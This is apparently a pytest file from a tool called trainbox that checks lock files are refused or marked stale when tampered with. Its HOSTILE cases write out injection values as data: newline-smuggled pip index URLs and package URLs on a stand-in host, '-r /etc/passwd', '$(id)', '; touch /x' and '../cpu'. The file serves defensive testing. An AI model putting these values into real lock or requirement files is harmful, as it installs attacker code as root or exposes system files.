"""Lock files go through the stack files' grammar, field by field, and a lock changed after `trainbox stack lock`
sealed it is stale and unused (issue 37, the HIGH escape: a newline in a lock's sha256 put an
`evilpkg @ http://...` line into build/generated/<stack>/requirements.txt, which pip installs as root).

Each hostile lock is refused by `stack validate` and by `render` (exit 2, as for any stack that does not load: the
lock file and key path named, the fix said; render writes nothing), and nothing of it reaches a generated file."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
import yaml

from trainbox.cli import main
from trainbox.specs.grammar import check_requirement_line
from trainbox.specs.component import DIGEST_KEY, check_lock, intact, seal
from trainbox.paths import STACKS_DIR
from trainbox.image.render import render_stack
from trainbox.specs.stack import StackError, load_stack

EVIL = "evilpkg @ http://203.0.113.9/x.whl"
SHA = "a" * 64
NUMPY_SHA = "8cba086a43d54ca804ce711b2a940b16e452807acebe7852ff327f1ecd49b0d4"


@pytest.fixture
def stacks(tmp_path) -> Path:
    d = tmp_path / "stacks"
    shutil.copytree(STACKS_DIR, d)
    return d


def _edit(path: Path, change) -> None:
    """Load, change, write back a lock: with libyaml where PyYAML has it (a lock is tens of KiB; the pure-Python
    pair was most of each hostile case's CPU), the same documents either way."""
    data = yaml.load(path.read_text(), Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader))
    change(data)
    path.write_text(yaml.dump(data, Dumper=getattr(yaml, "CSafeDumper", yaml.SafeDumper), sort_keys=True))


def _amd(data: dict) -> dict:
    return data["platforms"]["linux/amd64"]


# (id, stack, edit of the loaded lock, a fragment of the key path the refusal names)
HOSTILE = [
    ("sha256-newline-url", "cpu", lambda d: _amd(d)["components"]["numpy"]["sha256"].__setitem__(
        0, f"{NUMPY_SHA}\n{EVIL} --hash=sha256:{SHA}"), "components.numpy.sha256"),
    ("sha256-newline-extra-index", "cpu", lambda d: _amd(d)["components"]["numpy"]["sha256"].append(
        f"{SHA}\n--extra-index-url http://203.0.113.9/simple"), "components.numpy.sha256"),
    ("sha256-cr", "cpu", lambda d: _amd(d)["components"]["torch"]["sha256"].__setitem__(
        0, f"{SHA}\r--index-url http://203.0.113.9/"), "components.torch.sha256"),
    ("sha256-nul", "cpu", lambda d: _amd(d)["components"]["torch"]["sha256"].__setitem__(0, f"{SHA}\x00"),
     "components.torch.sha256"),
    ("sha256-trailing-newline", "cpu", lambda d: _amd(d)["components"]["torch"]["sha256"].__setitem__(
        0, f"{SHA}\n"), "components.torch.sha256"),
    ("dep-name-trailing-newline", "cpu", lambda d: _amd(d)["deps"].__setitem__(
        "evilpkg\n", {"version": "1.0", "sha256": [SHA]}), "deps"),
    ("component-index-trailing-newline", "cpu", lambda d: _amd(d)["components"]["numpy"].__setitem__(
        "index", "pypi\n"), "components.numpy.index"),
    ("sha256-binary", "cpu", lambda d: _amd(d)["components"]["torch"]["sha256"].__setitem__(0, SHA.encode()),
     "components.torch.sha256"),
    ("dep-name-binary", "cpu", lambda d: _amd(d)["deps"].__setitem__(b"evilpkg", {"version": "1.0", "sha256": [SHA]}),
     "deps"),
    ("sha256-upper", "cpu", lambda d: _amd(d)["components"]["torch"]["sha256"].__setitem__(0, SHA.upper()),
     "components.torch.sha256"),
    ("dep-version-shell", "cpu", lambda d: _amd(d)["deps"]["sympy"].__setitem__("version", "1.0; touch /x"),
     "deps.sympy.version"),
    ("dep-version-range", "cpu", lambda d: _amd(d)["deps"]["sympy"].__setitem__("version", ">=1"),
     "deps.sympy.version"),
    ("dep-version-newline-r", "cpu", lambda d: _amd(d)["deps"]["sympy"].__setitem__(
        "version", "1.14.0\n-r /etc/passwd"), "deps.sympy.version"),
    ("dep-version-envvar", "cpu", lambda d: _amd(d)["deps"]["sympy"].__setitem__("version", "${PIP_INDEX_URL}"),
     "deps.sympy.version"),
    ("dep-version-file-url", "cpu", lambda d: _amd(d)["deps"]["sympy"].__setitem__(
        "version", "1.0 @ file:///etc/passwd"), "deps.sympy.version"),
    ("dep-version-number", "cpu", lambda d: _amd(d)["deps"]["sympy"].__setitem__("version", 1.14),
     "deps.sympy.version"),
    ("dep-name-space", "cpu", lambda d: _amd(d)["deps"].__setitem__(
        "evil pkg", {"version": "1.0", "sha256": [SHA]}), "deps"),
    ("dep-name-option", "cpu", lambda d: _amd(d)["deps"].__setitem__(
        "--extra-index-url=http://203.0.113.9/simple", {"version": "1.0", "sha256": [SHA]}), "deps"),
    ("dep-name-r", "cpu", lambda d: _amd(d)["deps"].__setitem__("-r", {"version": "1.0", "sha256": [SHA]}), "deps"),
    ("dep-name-c", "cpu", lambda d: _amd(d)["deps"].__setitem__(
        "-c /etc/passwd", {"version": "1.0", "sha256": [SHA]}), "deps"),
    ("dep-name-at-file", "cpu", lambda d: _amd(d)["deps"].__setitem__(
        "evil @ file:///tmp/x.whl", {"version": "1.0", "sha256": [SHA]}), "deps"),
    ("dep-name-not-normal", "cpu", lambda d: _amd(d)["deps"].__setitem__(
        "Evil_Pkg", {"version": "1.0", "sha256": [SHA]}), "deps"),
    ("dep-unknown-key", "cpu", lambda d: _amd(d)["deps"]["sympy"].__setitem__("url", "http://203.0.113.9/x.whl"),
     "deps.sympy.url"),
    ("component-version", "cpu", lambda d: _amd(d)["components"]["numpy"].__setitem__(
        "version", "2.3.5 --index-url http://203.0.113.9/"), "components.numpy.version"),
    ("component-index", "cpu", lambda d: _amd(d)["components"]["numpy"].__setitem__("index", "pypi\n-r x"),
     "components.numpy.index"),
    ("component-key", "cpu", lambda d: _amd(d)["components"].__setitem__(
        "x\n-r /etc/passwd", {"version": "1.0", "index": "pypi", "sha256": [SHA]}), "components"),
    ("platforms-list", "cpu", lambda d: d.__setitem__("platforms", [1, 2]), "platforms"),
    ("platforms-unknown", "cpu", lambda d: d["platforms"].__setitem__("linux/s390x", {"components": {}}),
     "platforms"),
    ("platform-not-mapping", "cpu", lambda d: d["platforms"].__setitem__("linux/amd64", "x"),
     "platforms.linux/amd64"),
    ("deps-not-mapping", "cpu", lambda d: _amd(d).__setitem__("deps", ["evilpkg==1.0"]), "deps"),
    ("index-url", "cpu", lambda d: d["indexes"].__setitem__("pypi", "https://pypi.org/simple;touch /x"),
     "indexes"),
    ("python", "cpu", lambda d: d.__setitem__("python", "3.11\n"), "python"),
    ("stack-name", "cpu", lambda d: d.__setitem__("stack", "../cpu"), "stack"),
    ("pins-digest", "cpu", lambda d: d.__setitem__("pins_digest", "$(id)"), "pins_digest"),
    ("unknown-top-key", "cpu", lambda d: d.__setitem__("extra_index_url", "http://203.0.113.9/"),
     "extra_index_url"),
    ("build-dep-version", "specforge", lambda d: _amd(d)["build_deps"]["wheel"].__setitem__(
        "version", "0.48.0\n" + EVIL), "build_deps.wheel.version"),
    ("build-dep-name", "specforge", lambda d: _amd(d)["build_deps"].__setitem__(
        "--index-url http://203.0.113.9/", {"version": "1.0", "sha256": [SHA]}), "build_deps"),
    ("build-requires", "specforge", lambda d: d["build_requires"].append("setuptools\n" + EVIL), "build_requires"),
]


@pytest.mark.parametrize("name,stack,change,where", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_lock_value_is_refused_in_one_line(stacks, tmp_path, capsys, name, stack, change, where):
    lock = stacks / f"{stack}.lock"
    _edit(lock, change)
    assert main(["stack", "validate", str(stacks / f"{stack}.yaml")]) == 2
    err = capsys.readouterr().err
    line = next(ln for ln in err.splitlines() if str(lock) in ln)
    assert where in line, line
    assert f"trainbox stack lock {stack}" in line
    assert "Traceback" not in err
    out = tmp_path / "out"
    assert main(["render", str(stacks / f"{stack}.yaml"), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and str(lock) in err and "Traceback" not in err, err
    assert not out.exists() or not any(p.is_file() for p in out.rglob("*")), "render wrote something"
    with pytest.raises(StackError):
        load_stack(stacks / f"{stack}.yaml")


def test_refusal_names_the_key_path_and_the_fix(stacks):
    _edit(stacks / "cpu.lock", HOSTILE[0][2])
    with pytest.raises(StackError) as exc:
        load_stack(stacks / "cpu.yaml")
    msg = str(exc.value)
    assert msg.startswith(f"{stacks / 'cpu.lock'}: platforms.linux/amd64.components.numpy.sha256: ")
    assert "\\n" in msg and "\n" not in msg, "the value is shown escaped, on one line"
    assert "64 lowercase hex digits" in msg and "regenerate it with `trainbox stack lock cpu`" in msg


ADDED = [
    ("added-dep", "cpu", lambda d: _amd(d)["deps"].__setitem__("evilpkg", {"version": "1.0", "sha256": [SHA]})),
    ("added-dep-arm64", "cpu", lambda d: d["platforms"]["linux/arm64"]["deps"].__setitem__(
        "evilpkg", {"version": "1.0", "sha256": [SHA]})),
    ("moved-dep-hash", "cpu", lambda d: _amd(d)["deps"]["sympy"].__setitem__("sha256", [SHA])),
    ("added-component-hash", "cpu", lambda d: _amd(d)["components"]["numpy"]["sha256"].append(SHA)),
    ("added-build-dep", "specforge", lambda d: _amd(d)["build_deps"].__setitem__(
        "evilpkg", {"version": "1.0", "sha256": [SHA]})),
    ("added-deps-section", "specforge", lambda d: _amd(d).setdefault("deps", {}).__setitem__(
        "evilpkg", {"version": "1.0", "sha256": [SHA]})),
    ("digest-removed", "cpu", lambda d: (d.pop(DIGEST_KEY), _amd(d)["deps"].__setitem__(
        "evilpkg", {"version": "1.0", "sha256": [SHA]}))),
]


@pytest.mark.parametrize("name,stack,change", ADDED, ids=[a[0] for a in ADDED])
def test_entry_the_resolver_did_not_produce_makes_the_lock_stale(stacks, tmp_path, capsys, name, stack, change):
    """In the grammar, but not what `stack lock` wrote: the seal no longer matches, so the lock is stale
    (`lock-fresh`), and nothing of it (closure or component hashes) reaches a generated file."""
    _edit(stacks / f"{stack}.lock", change)
    st = load_stack(stacks / f"{stack}.yaml")
    assert not st.lock_is_fresh()
    assert any(DIGEST_KEY in why for why in st.lock_staleness())
    assert main(["stack", "validate", str(stacks / f"{stack}.yaml")]) == 1
    err = capsys.readouterr().err
    assert f"{stack}.lock is stale: {DIGEST_KEY}" in err and f"run `trainbox stack lock {stack}`" in err
    assert not any(st.locked_deps(p) or st.locked_build_deps(p) for p in st.platforms)
    try:
        rendered = render_stack(st)
    except Exception as exc:  # the hashes are not believed: render asks for a lock  # noqa: BLE001
        assert "trainbox stack lock" in str(exc)
    else:
        for data in rendered.context_files.values():
            assert b"evilpkg" not in data and SHA.encode() not in data


def test_committed_locks_are_sealed_and_fresh():
    for lock in sorted(STACKS_DIR.glob("*.lock")):
        data = yaml.safe_load(lock.read_text())
        assert intact(data), lock
        check_lock(data, lock, lock.stem)
        assert load_stack(lock.stem).lock_is_fresh(), lock


def test_seal_round_trips_and_catches_any_change():
    lock = seal({"stack": "cpu", "python": "3.11", "pins_digest": "0" * 16, "indexes": {}, "platforms": {}})
    assert intact(lock) and intact(yaml.safe_load(yaml.safe_dump(lock)))
    assert not intact({**lock, "python": "3.12"})
    assert not intact({k: v for k, v in lock.items() if k != DIGEST_KEY})


def test_stack_lock_loads_a_broken_lock_to_rewrite_it(stacks):
    """`trainbox stack lock` is the fix the refusal names: it must load the stack without the broken lock."""
    _edit(stacks / "cpu.lock", HOSTILE[0][2])
    st = load_stack(stacks / "cpu.yaml", repair_lock=True)
    assert st.lock is None and "components.numpy.sha256" in st.resolution.lock_problem


@pytest.mark.parametrize("line", [
    f"{EVIL} --hash=sha256:{SHA}",
    f"numpy==2.3.5 --hash=sha256:{SHA}\n--extra-index-url http://203.0.113.9/",
    f"numpy==2.3.5 --hash=sha256:{SHA} --index-url http://203.0.113.9/",
    f"numpy>=1 --hash=sha256:{SHA}",
    f"-r /etc/passwd --hash=sha256:{SHA}",
    f"-c c.txt --hash=sha256:{SHA}",
    f"numpy==${{HOME}} --hash=sha256:{SHA}",
    f"numpy==2.3.5; os_name == 'posix' --hash=sha256:{SHA}",
    "numpy==2.3.5",
    f"numpy==2.3.5\r --hash=sha256:{SHA}",
])
def test_requirement_line_guard_refuses_anything_but_a_pinned_hashed_line(line):
    with pytest.raises(ValueError, match="refusing to write the requirement line"):
        check_requirement_line(line, "x")


def test_requirement_line_guard_takes_what_trainbox_writes():
    for line in (f"numpy==2.3.5 --hash=sha256:{SHA}",
                 f'torch==2.13.0+cpu ; platform_machine == "x86_64" --hash=sha256:{SHA} --hash=sha256:{"b" * 64}',
                 f"sglang[srt-npu,x]==0.5.10 --hash=sha256:{SHA}"):
        assert check_requirement_line(line, "x") == line


def _unreachable(monkeypatch):
    """Every index down (no network in these tests): `stack lock` keeps only what it may believe of the old lock."""
    from trainbox.supply import lock as lockmod
    from trainbox.supply.index import IndexUnreachable

    def down(self, index, project):
        raise IndexUnreachable(index, self.stack.indexes[index], "stand-in: no network in this test")

    monkeypatch.setattr(lockmod._Files, "get", down)
    return lockmod


def test_stack_lock_keeps_an_intact_locks_hashes_when_the_index_is_down(stacks, monkeypatch):
    lockmod = _unreachable(monkeypatch)
    rep = lockmod.lock_stack(load_stack(stacks / "cpu.yaml"), resolve_deps=False)
    assert rep.problems == [] and not any("not used" in c for c in rep.changes)
    assert rep.lock["platforms"]["linux/amd64"]["components"]["numpy"]["sha256"] == [NUMPY_SHA]
    assert "sympy" in rep.lock["platforms"]["linux/amd64"]["deps"] and intact(rep.lock)


@pytest.mark.parametrize("change", [ADDED[0][2], HOSTILE[0][2]], ids=["unsealed-entry", "outside-the-grammar"])
def test_stack_lock_believes_nothing_of_a_changed_lock(stacks, monkeypatch, change):
    """Not even with --no-deps: the added closure entry or the injected hash is not carried into the new lock."""
    lockmod = _unreachable(monkeypatch)
    _edit(stacks / "cpu.lock", change)
    rep = lockmod.lock_stack(load_stack(stacks / "cpu.yaml", repair_lock=True), resolve_deps=False)
    assert any(c.startswith("the old lock is not used: ") for c in rep.changes), rep.changes
    text = json.dumps(rep.lock)
    assert "evilpkg" not in text and "deps" not in rep.lock["platforms"]["linux/amd64"]
    assert any("components.numpy" in p and "no hash known" in p for p in rep.problems)  # not written
    assert any("--no-deps" in line for line in rep.incomplete)


def test_stack_lock_command_rewrites_a_lock_outside_the_grammar(stacks, capsys, monkeypatch):
    """The fix the refusal names works: `trainbox stack lock` loads the stack without the broken lock, and what
    it writes is sealed and loads again."""
    from trainbox.supply import lock as lockmod

    real = lockmod.lock_stack

    def offline(stack, wheelhouse=None, resolve_deps=True, **_):  # a stand-in for the index: the stack's own hashes
        monkeypatch.setattr(lockmod._Files, "get", lambda *a: (_ for _ in ()).throw(
            lockmod.IndexUnreachable("pypi", "x", "stand-in")))
        rep = real(stack, wheelhouse, resolve_deps=False)
        rep.problems = []
        return rep

    monkeypatch.setattr(lockmod, "lock_stack", offline)
    _edit(stacks / "cpu.lock", HOSTILE[0][2])
    assert main(["stack", "lock", str(stacks / "cpu.yaml"), "--no-dependants"]) == 0, capsys.readouterr().err
    out = capsys.readouterr().out
    assert "the old lock is not used" in out
    written = yaml.safe_load((stacks / "cpu.lock").read_text())
    assert intact(written) and "evilpkg" not in (stacks / "cpu.lock").read_text()
    load_stack(stacks / "cpu.yaml")  # loads again
